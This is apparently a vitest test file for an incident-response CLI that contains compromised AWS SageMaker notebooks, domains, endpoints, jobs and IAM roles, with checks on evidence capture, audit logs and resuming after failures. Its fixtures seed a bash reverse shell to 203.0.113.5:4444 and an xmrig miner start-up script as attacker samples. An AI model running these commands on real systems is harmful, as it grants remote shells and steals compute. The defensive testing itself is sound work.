import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { beforeEach, describe, expect, it } from 'vitest';
import { run, type ContainCliOptions, type ContainDeps } from '../../../src/commands/contain/index.js';
import { ExitCode, InterruptedError, NotConfirmedError, SmIrError, UsageError } from '../../../src/errors.js';
import { createIam, type IamFake } from '../../fake-aws/services/iam.js';
import { createSageMaker, type SageMakerFake } from '../../fake-aws/services/sagemaker.js';
import { fakeCaller, sink } from './harness.js';
import { settledChanges } from '../../support/audit-lines.js';

let sm: SageMakerFake;
let iam: IamFake;
let caseDir: string;

beforeEach(() => {
  sm = createSageMaker({ delayMs: 15 });
  iam = createIam();
  caseDir = join(mkdtempSync(join(tmpdir(), 'sm-ir-contain-')), 'case');
});

function opts(action: string | undefined, targets: string[], more: Partial<ContainCliOptions> = {}): ContainCliOptions {
  return { action, targets, yes: true, dryRun: false, case: caseDir, withConfig: false, withModels: false, deleteHomeEfs: false, restart: true, delete: false, timeout: '1', poll: '0.003', output: 'json', region: 'us-east-1', ...more };
}
async function contain(o: ContainCliOptions, deps: ContainDeps = {}) {
  const stdout = sink();
  const stderr = sink();
  const caller = fakeCaller([sm.module, iam.module]);
  const code = await run(o, { caller, stdout, stderr, onInterrupt: () => ({ interrupted: () => false, dispose: () => {} }), ...deps });
  return { code, out: stdout.text(), err: stderr.text(), json: () => JSON.parse(stdout.text()) as Record<string, unknown>, caller };
}
const mutating = () => [...sm.state.calls, ...iam.state.calls].filter((c) => /^(Delete|Stop|Start|Update|Put)/.test(c));
const auditAll = () => readFileSync(join(caseDir, 'audit.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown> & { outcome: string });
/** The audit log without its reads: the changes made or found already done. */
const audit = () => settledChanges(auditAll());

describe('plan only', () => {
  it('--dry-run --output json prints the plan and changes nothing', async () => {
    sm.seed.notebook('nb1');
    const r = await contain(opts('disable-root-access', ['nb1'], { dryRun: true }));
    expect(r.code).toBe(0);
    const doc = r.json() as { schema: string; plans: { steps: { operation: string; permission: string }[] }[] };
    expect(doc.schema).toBe('sm-ir/contain-plan@1');
    expect(doc.plans[0]?.steps.map((s) => `${s.operation}:${s.permission}`)).toEqual([
      'StopNotebookInstance:sagemaker:StopNotebookInstance',
      'UpdateNotebookInstance:sagemaker:UpdateNotebookInstance',
      'StartNotebookInstance:sagemaker:StartNotebookInstance',
    ]);
    expect(mutating()).toEqual([]);
    expect(existsSync(caseDir)).toBe(false);
  });

  it('refuses without --yes when there is no TTY, before capturing or changing anything', async () => {
    sm.seed.notebook('nb1');
    const stdin = new PassThrough() as unknown as NodeJS.ReadStream;
    const p = contain(opts('stop-notebook', ['nb1'], { yes: false }), { stdin });
    await expect(p).rejects.toThrow(NotConfirmedError);
    await expect(p).rejects.toMatchObject({ exitCode: ExitCode.usage });
    expect(mutating()).toEqual([]);
    expect(existsSync(join(caseDir, 'manifest.json'))).toBe(false);
  });

  it('rejects invalid names, unknown actions and foreign-account ARNs before any AWS call', async () => {
    await expect(contain(opts('delete-endpoint', ['bad_name']))).rejects.toThrow(UsageError);
    await expect(contain(opts('nuke', ['x']))).rejects.toThrow(/unknown action 'nuke'/);
    await expect(contain(opts('stop-job', ['j1']))).rejects.toThrow(/--job-type/);
    await expect(contain(opts('delete-endpoint', ['arn:aws:sagemaker:us-east-1:444455556666:endpoint/ep']))).rejects.toThrow(/account 444455556666/);
    expect(sm.state.calls).toEqual([]);
  });
});

describe('apply', () => {
  it('disable-root-access: evidence (0600, hashed, scripts decoded), end state, audit log', async () => {
    sm.seed.lifecycleConfig('lcc-evil', ['#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n']);
    sm.seed.notebook('nb1', { lifecycleConfigName: 'lcc-evil' });
    const r = await contain(opts('disable-root-access', ['nb1']));
    expect(r.code).toBe(0);
    expect(sm.state.notebooks.get('nb1')).toMatchObject({ status: 'InService', rootAccess: 'Disabled' });

    const manifest = JSON.parse(readFileSync(join(caseDir, 'manifest.json'), 'utf8')) as { caller: { account: string; arn: string }; files: { file: string; sha256: string }[] };
    expect(manifest.caller).toMatchObject({ account: '111122223333', arn: 'arn:aws:iam::111122223333:user/responder' });
    const files = manifest.files.map((f) => f.file);
    expect(files.some((f) => f.endsWith('DescribeNotebookInstance-nb1.json'))).toBe(true);
    expect(files.some((f) => f.endsWith('ListTags-nb1-tags.json'))).toBe(true);
    const script = files.find((f) => f.endsWith('lifecycle-lcc-evil-OnStart-1.sh'));
    expect(readFileSync(join(caseDir, script!), 'utf8')).toContain('/dev/tcp/203.0.113.5/4444');
    for (const f of manifest.files) {
      const content = readFileSync(join(caseDir, f.file));
      expect(createHash('sha256').update(content).digest('hex')).toBe(f.sha256);
      expect(statSync(join(caseDir, f.file)).mode & 0o777).toBe(0o600);
    }
    expect(statSync(join(caseDir, 'manifest.json')).mode & 0o777).toBe(0o600);

    // Each change was written as sent before its request, then settled with the same callId.
    expect(auditAll().filter((e) => e.readOnly !== true).map((e) => `${String(e.operation)}:${String(e.outcome)}`)).toEqual([
      'StopNotebookInstance:sent', 'StopNotebookInstance:ok', 'UpdateNotebookInstance:sent', 'UpdateNotebookInstance:ok', 'StartNotebookInstance:sent', 'StartNotebookInstance:ok',
    ]);
    const entries = audit();
    expect(entries.map((e) => `${e.operation}:${e.outcome}`)).toEqual(['StopNotebookInstance:ok', 'UpdateNotebookInstance:ok', 'StartNotebookInstance:ok']);
    expect(entries[1]).toMatchObject({ command: 'contain disable-root-access', region: 'us-east-1', service: 'sagemaker', parameters: { NotebookInstanceName: 'nb1', RootAccess: 'Disabled' }, error: null });
    expect(entries.every((e) => typeof e.requestId === 'string' && typeof e.time === 'string')).toBe(true);
    // The reads are there too, from the caller identity on, each with its request id.
    const reads = auditAll().filter((e) => e.readOnly === true);
    expect(reads[0]).toMatchObject({ operation: 'GetCallerIdentity', outcome: 'ok', requestId: 'req-0001' });
    expect(reads.map((e) => e.operation)).toContain('DescribeNotebookInstanceLifecycleConfig');
    // Every call has its settled line; the three changes also their sent line.
    expect(auditAll().filter((e) => e.outcome !== 'sent')).toHaveLength(r.caller.log.length);
    expect(auditAll().filter((e) => e.outcome === 'sent')).toHaveLength(3);
    expect(statSync(join(caseDir, 'audit.jsonl')).mode & 0o777).toBe(0o600);
    expect((r.json() as { schema: string }).schema).toBe('sm-ir/contain-result@1');
  });

  it('--no-restart leaves the notebook stopped', async () => {
    sm.seed.notebook('nb1');
    await contain(opts('disable-root-access', ['nb1'], { restart: false }));
    expect(sm.state.notebooks.get('nb1')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
  });

  it('delete-endpoint --with-config --with-models keeps the model another endpoint uses', async () => {
    sm.seed.model('m-attacker');
    sm.seed.model('m-shared');
    sm.seed.endpointConfig('cfg-attacker', ['m-attacker', 'm-shared']);
    sm.seed.endpointConfig('cfg-prod', ['m-shared']);
    sm.seed.endpoint('ep-attacker', 'cfg-attacker');
    sm.seed.endpoint('ep-prod', 'cfg-prod');
    const r = await contain(opts('delete-endpoint', ['ep-attacker'], { withConfig: true, withModels: true }));
    expect(r.code).toBe(0);
    expect([...sm.state.endpoints.keys()]).toEqual(['ep-prod']);
    expect([...sm.state.endpointConfigs.keys()]).toEqual(['cfg-prod']);
    expect([...sm.state.models.keys()]).toEqual(['m-shared']);
    expect(r.err).toContain('kept: model/m-shared: still used by endpoint ep-prod');
  });

  it('delete-domain: apps, spaces, profiles, then the domain, home EFS retained', async () => {
    const d = 'd-abc123def456';
    // Its ARN says onstart-Miner in lower case; Describe wants the name as created.
    sm.seed.studioLifecycleConfig('OnStart-Miner', '#!/bin/bash\nnohup ./xmrig &\n');
    sm.seed.domain(d, 'InService', ['OnStart-Miner']);
    sm.seed.userProfile(d, 'alice');
    sm.seed.space(d, 'alice-space', 'alice');
    // Still starting: DeleteApp would answer ResourceInUse until it is InService.
    sm.seed.app({ domainId: d, appType: 'CodeEditor', appName: 'starting', userProfileName: 'alice', spaceName: null, status: 'Pending' });
    sm.seed.app({ domainId: d, appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null });
    sm.seed.app({ domainId: d, appType: 'JupyterLab', appName: 'lab', userProfileName: null, spaceName: 'alice-space' });
    sm.seed.app({ domainId: d, appType: 'KernelGateway', appName: 'broken', userProfileName: 'alice', spaceName: null, status: 'Failed' });
    const r = await contain(opts('delete-domain', [d]));
    expect(r.code).toBe(0);
    expect(sm.state.domains.size).toBe(0);
    expect(audit().map((e) => e.operation)).toEqual(['DeleteApp', 'DeleteApp', 'DeleteApp', 'DeleteSpace', 'DeleteUserProfile', 'DeleteDomain']);
    expect(audit().every((e) => e.outcome === 'ok')).toBe(true);
    expect(audit().at(-1)?.parameters).toEqual({ DomainId: d, RetentionPolicy: { HomeEfsFileSystem: 'Retain' } });
    const files = readdirSync(join(caseDir, 'evidence'), { recursive: true }).map(String);
    for (const op of ['DescribeDomain', 'ListApps', 'ListUserProfiles', 'ListSpaces', 'DescribeUserProfile', 'DescribeSpace']) expect(files.some((f) => f.includes(op)), op).toBe(true);
    expect(readFileSync(join(caseDir, 'evidence', files.find((f) => f.endsWith('studio-lifecycle-OnStart-Miner-JupyterLab.sh'))!), 'utf8')).toBe('#!/bin/bash\nnohup ./xmrig &\n');
  });

  it('stop-job, delete-notebook and detach-lifecycle-config --delete reach their end states', async () => {
    sm.seed.job('training', 'miner');
    sm.seed.notebook('nb-del');
    sm.seed.lifecycleConfig('lcc1', ['echo hi']);
    sm.seed.notebook('nb-lcc', { lifecycleConfigName: 'lcc1', status: 'Stopped' });
    expect((await contain(opts('stop-job', ['miner'], { jobType: 'training' }))).code).toBe(0);
    expect(sm.state.jobs.get('training/miner')?.status).toBe('Stopped');
    expect((await contain(opts('delete-notebook', ['nb-del'], { case: `${caseDir}-2` }))).code).toBe(0);
    expect(sm.state.notebooks.has('nb-del')).toBe(false);
    expect((await contain(opts('detach-lifecycle-config', ['nb-lcc'], { delete: true, case: `${caseDir}-3` }))).code).toBe(0);
    expect(sm.state.notebooks.get('nb-lcc')).toMatchObject({ lifecycleConfigName: null, status: 'Stopped' });
    expect(sm.state.lifecycleConfigs.has('lcc1')).toBe(false);
  });

  it('quarantine-role and revoke-sessions attach their inline policies', async () => {
    iam.seed.role('AttackerRole');
    await contain(opts('quarantine-role', ['arn:aws:iam::111122223333:role/AttackerRole']));
    await contain(opts('revoke-sessions', ['AttackerRole'], { case: `${caseDir}-2` }));
    const inline = iam.state.roles.get('AttackerRole')!.inline;
    expect(JSON.parse(inline.get('sm-ir-quarantine')!).Statement[0]).toMatchObject({ Effect: 'Deny', Action: '*', Resource: '*' });
    const revoke = JSON.parse(inline.get('AWSRevokeOlderSessions')!);
    expect(Date.parse(revoke.Statement[0].Condition.DateLessThan['aws:TokenIssueTime'])).toBeGreaterThan(Date.now() - 60_000);
    const getPolicy = readdirSync(join(caseDir, 'evidence'), { recursive: true }).map(String).find((f) => f.endsWith('GetRolePolicy-AttackerRole-sm-ir-quarantine.json'));
    expect(getPolicy).toBeUndefined(); // captured before the change: the policy did not exist yet
    // Running the quarantine again is a no-op recorded as already done, and its evidence shows the policy, decoded.

    await contain(opts('quarantine-role', ['AttackerRole']));
    expect(audit().map((e) => e.outcome)).toEqual(['ok', 'already-done']);
    const second = readdirSync(join(caseDir, 'evidence'), { recursive: true }).map(String).find((f) => f.endsWith('GetRolePolicy-AttackerRole-sm-ir-quarantine.json'));
    const doc = JSON.parse(readFileSync(join(caseDir, 'evidence', second!), 'utf8'));
    expect(doc.decodedPolicyDocuments[0].Statement[0]).toMatchObject({ Effect: 'Deny', Action: '*' });
  });
});

describe('failures and resuming', () => {
  it('quarantine-user --delete-login-profile: a failed DeleteLoginProfile is finished by the same command, the deny-all not made twice', async () => {
    iam.seed.user('mallory', { loginProfile: true });
    iam.failNext('DeleteLoginProfile');
    await expect(contain(opts('quarantine-user', ['mallory'], { deleteLoginProfile: true }))).rejects.toThrow(/step 2 of 2 failed/);
    expect(iam.state.users.get('mallory')).toMatchObject({ loginProfile: true });
    expect(iam.state.users.get('mallory')!.inline.has('sm-ir-quarantine')).toBe(true);
    const again = await contain(opts('quarantine-user', ['mallory'], { deleteLoginProfile: true }));
    expect(again.code).toBe(0);
    expect(iam.state.users.get('mallory')).toMatchObject({ loginProfile: false });
    expect(audit().map((e) => `${e.operation}:${e.outcome}`)).toEqual(['PutUserPolicy:ok', 'DeleteLoginProfile:error', 'PutUserPolicy:already-done', 'DeleteLoginProfile:ok']);
    const iamCalls = () => iam.state.calls.map((c) => c.split(' ')[0] ?? '');
    expect(iamCalls().filter((c) => /^(Put|Delete)/.test(c))).toEqual(['PutUserPolicy', 'DeleteLoginProfile', 'DeleteLoginProfile']);
    // Without the option the password is neither read nor touched.
    iam.seed.user('eve', { loginProfile: true });
    const before = iamCalls().length;
    await contain(opts('quarantine-user', ['eve'], { case: `${caseDir}-2` }));
    expect(iamCalls().slice(before).filter((c) => c.endsWith('LoginProfile'))).toEqual([]);
    expect(iam.state.users.get('eve')).toMatchObject({ loginProfile: true });
  });

  it('an injected failure stops the run; the same command with the same --case completes it', async () => {
    sm.seed.notebook('nb1');
    sm.failNext('UpdateNotebookInstance', 'InternalFailure', 'We encountered an internal error.');
    await expect(contain(opts('disable-root-access', ['nb1']))).rejects.toThrow(/step 2 of 3 failed/);
    expect(sm.state.notebooks.get('nb1')).toMatchObject({ rootAccess: 'Enabled' });
    expect(audit().map((e) => `${e.operation}:${e.outcome}`)).toEqual(['StopNotebookInstance:ok', 'UpdateNotebookInstance:error']);
    expect(audit()[1]?.error).toMatchObject({ code: 'InternalFailure' });

    const again = await contain(opts('disable-root-access', ['nb1']));
    expect(again.code).toBe(0);
    expect(again.err).toContain('Resuming the run saved in');
    expect(sm.state.notebooks.get('nb1')).toMatchObject({ status: 'InService', rootAccess: 'Disabled' });
    expect(audit().map((e) => `${e.operation}:${e.outcome}`).slice(2)).toEqual(['StopNotebookInstance:already-done', 'UpdateNotebookInstance:ok', 'StartNotebookInstance:ok']);
    const manifest = JSON.parse(readFileSync(join(caseDir, 'manifest.json'), 'utf8')) as { runs: unknown[] };
    expect(manifest.runs).toHaveLength(2);
  });

  it('a resumed delete-endpoint --with-config still deletes the config after the endpoint is gone', async () => {
    sm.seed.endpointConfig('cfg', ['m']);
    sm.seed.endpoint('ep', 'cfg');
    sm.failNext('DeleteEndpointConfig', 'ThrottlingException', 'Rate exceeded');
    await expect(contain(opts('delete-endpoint', ['ep'], { withConfig: true }))).rejects.toThrow(SmIrError);
    expect(sm.state.endpoints.has('ep')).toBe(false);
    await contain(opts('delete-endpoint', ['ep'], { withConfig: true }));
    expect(sm.state.endpointConfigs.has('cfg')).toBe(false);
    expect(audit().map((e) => `${e.operation}:${e.outcome}`)).toEqual(['DeleteEndpoint:ok', 'DeleteEndpointConfig:error', 'DeleteEndpoint:already-done', 'DeleteEndpointConfig:ok']);
  });

  it('Ctrl-C stops between steps and says where (exit 130)', async () => {
    sm.seed.notebook('nb1');
    let checks = 0;
    const onInterrupt = () => ({ interrupted: () => ++checks > 1, dispose: () => {} });
    const p = contain(opts('disable-root-access', ['nb1']), { onInterrupt });
    await expect(p).rejects.toThrow(InterruptedError);
    await expect(p).rejects.toThrow(/before step 2 of 3 \(UpdateNotebookInstance notebook\/nb1\); 1 step\(s\) done/);
    await expect(p).rejects.toMatchObject({ exitCode: 130 });
    expect(audit()).toHaveLength(1);
  });

  it('if capturing evidence fails, nothing is changed and the error names the permission', async () => {
    sm.seed.notebook('nb1');
    sm.failNext('ListTags', 'AccessDeniedException', 'User is not authorized to perform: sagemaker:ListTags');
    await expect(contain(opts('stop-notebook', ['nb1']))).rejects.toMatchObject({ hint: expect.stringContaining('sagemaker:ListTags') });
    expect(mutating()).toEqual([]);
  });

  it('a damaged plan.json in --case is an error that names it, before any change', async () => {
    sm.seed.notebook('nb1');
    mkdirSync(caseDir, { recursive: true });
    writeFileSync(join(caseDir, 'plan.json'), '{"schema":"sm-ir/contain-plan@1","plans":[{"action":');
    await expect(contain(opts('stop-notebook', ['nb1']))).rejects.toThrow(/plan\.json is not readable JSON/);
    writeFileSync(join(caseDir, 'plan.json'), '{"schema":"sm-ir/contain-plan@1","plans":[{"action":"x"}]}');
    await expect(contain(opts('stop-notebook', ['nb1']))).rejects.toThrow(/is not a file sm-ir wrote/);
    expect(mutating()).toEqual([]);
  });

  it('a step that waits too long times out with a hint to resume', async () => {
    sm = createSageMaker({ delayMs: 60_000 });
    sm.seed.job('processing', 'p1');
    await expect(contain(opts('stop-job', ['p1'], { jobType: 'processing', timeout: '0.001' }))).rejects.toThrow(/timed out after 0s waiting for Stopped/);
  });

  it('a wait for a ready state says in words what it waited for', async () => {
    sm = createSageMaker({ delayMs: 60_000 });
    sm.seed.domain('d-abc123def456');
    sm.seed.app({ domainId: 'd-abc123def456', appType: 'JupyterServer', appName: 'default', userProfileName: 'alice', spaceName: null, status: 'Pending' });
    await expect(contain(opts('delete-domain', ['d-abc123def456'], { timeout: '0.001' }))).rejects.toThrow(/waiting for Status InService or Failed or Deleted$/);
  });
});

describe('--from-findings', () => {
  const finding = (over: Record<string, unknown>) => ({
    id: 'x:1', ruleId: 'execution-role-passed', scenarios: ['resource-misuse'], severity: 'high', confidence: 'strong', title: 't', reason: 'r',
    time: '2026-11-20T10:00:00Z', region: 'us-east-1', account: '111122223333',
    principal: { arn: 'arn:aws:sts::111122223333:assumed-role/DevRole/mallory', type: 'AssumedRole', accountId: '111122223333', accessKeyId: 'ASIAEXAMPLE', issuerArn: 'arn:aws:iam::111122223333:role/DevRole', key: 'k' },
    sourceIp: '203.0.113.5', userAgent: 'aws-cli', eventSource: 'sagemaker.amazonaws.com', eventName: 'CreateNotebookInstance', eventId: 'e1', relatedEventIds: ['e1'], errorCode: null,
    resources: ['arn:aws:sagemaker:us-east-1:111122223333:notebook-instance/miner-nb', 'arn:aws:iam::111122223333:role/service-role/ExecRole'], mitre: ['T1496'], evidence: {},
    ...over,
  });
  const report = (findings: unknown[]) => ({
    schema: 'sm-ir/detect-report@1', generatedAt: '2026-11-28T00:00:00Z', window: { start: null, end: '2026-11-28T00:00:00Z' }, sources: [],
    stats: { unitsRead: 1, recordsRead: 1, recordsMatched: 1, skipped: {}, errors: [] }, partial: false, findings, principals: [],
  });

  it('proposes stopping what flagged principals created, and revoking/quarantining their roles; never applies without confirmation', async () => {
    sm.seed.notebook('miner-nb');
    sm.seed.job('training', 'miner-job');
    iam.seed.role('DevRole');
    iam.seed.role('ExecRole', { path: '/service-role/' });
    const file = join(caseDir, '..', 'findings.json');
    writeFileSync(
      file,
      JSON.stringify(report([
        finding({}),
        finding({ id: 'x:2', ruleId: 'large-instance-type', eventName: 'CreateTrainingJob', resources: ['arn:aws:sagemaker:us-east-1:111122223333:training-job/miner-job'] }),
        // A weak finding of a principal nothing else flags proposes nothing.
        finding({ id: 'x:3', ruleId: 'scenario-event', confidence: 'weak', eventName: 'CreateEndpoint', resources: ['some-endpoint'], principal: { arn: 'arn:aws:iam::111122223333:user/ci', type: 'IAMUser', accountId: '111122223333', accessKeyId: null, issuerArn: null, key: 'ci' } }),
      ])),
    );
    const dry = await contain(opts(undefined, [], { fromFindings: file, dryRun: true }));
    const plans = (dry.json() as { plans: { action: string; targets: string[] }[] }).plans.map((p) => `${p.action} ${p.targets.join(',')}`);
    expect(plans.sort()).toEqual(['quarantine-role ExecRole', 'revoke-sessions DevRole', 'stop-job miner-job', 'stop-notebook miner-nb']);

    const stdin = new PassThrough() as unknown as NodeJS.ReadStream;
    await expect(contain(opts(undefined, [], { fromFindings: file, yes: false }), { stdin })).rejects.toThrow(NotConfirmedError);
    expect(mutating()).toEqual([]);
  });

  it('a file that is not a detect report is a clear usage error', async () => {
    const file = join(tmpdir(), `not-a-report-${process.pid}.json`);
    writeFileSync(file, JSON.stringify({ Records: [] }));
    await expect(contain(opts(undefined, [], { fromFindings: file }))).rejects.toThrow(/is not a detect report \(schema:/);
  });
});
